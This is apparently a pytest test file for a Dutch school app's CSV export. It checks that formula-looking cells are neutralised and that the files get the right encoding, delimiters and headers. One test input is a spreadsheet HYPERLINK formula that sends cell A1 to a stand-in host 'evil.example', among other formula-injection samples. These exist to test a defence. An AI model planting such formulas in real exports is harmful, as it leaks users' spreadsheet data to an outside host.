import csv
import datetime as dt
import io

import pytest

from koers.common.csv_export import BOM, csv_response, csv_text, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1;"klik")',
        "+31612345678",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        " \u00a0@cmd",
    ],
)
def test_neutralise_prefixes_formula_looking_text_with_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Samira", "3K1", "a=b", "e-mail", "", "O'Brien"])
def test_neutralise_leaves_ordinary_text_alone(text):
    assert neutralise(text) == text


def test_neutralise_keeps_numbers_as_numbers():
    assert neutralise(-3) == -3
    assert neutralise(2.5) == 2.5


def test_neutralise_writes_dates_booleans_and_none_readably():
    assert neutralise(dt.date(2027, 3, 1)) == "2027-03-01"
    assert neutralise(True) == "ja"
    assert neutralise(None) == ""


def test_csv_text_starts_with_bom_and_uses_semicolons():
    text = csv_text(["naam", "groep"], [["Samira", "3K1"]])

    assert text.startswith(BOM)
    assert text[len(BOM) :].splitlines() == ["naam;groep", "Samira;3K1"]


def test_csv_text_neutralises_cells_in_rows_and_header():
    text = csv_text(["=kop"], [['=HYPERLINK("x")']])

    rows = list(csv.reader(io.StringIO(text[len(BOM) :]), delimiter=";"))
    assert rows == [["'=kop"], ['\'=HYPERLINK("x")']]


def test_csv_text_quotes_cells_with_semicolons_and_newlines():
    text = csv_text(["a"], [["een; twee\ndrie"]])

    rows = list(csv.reader(io.StringIO(text[len(BOM) :]), delimiter=";"))
    assert rows[1] == ["een; twee\ndrie"]


def test_csv_response_is_an_uncached_attachment_in_utf8():
    response = csv_response("leerlingen.csv", ["naam"], [["Zoë"]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="leerlingen.csv"'
    assert "no-store" in response["Cache-Control"]
    assert response.content.startswith(BOM.encode("utf-8"))
    assert "Zoë".encode() in response.content
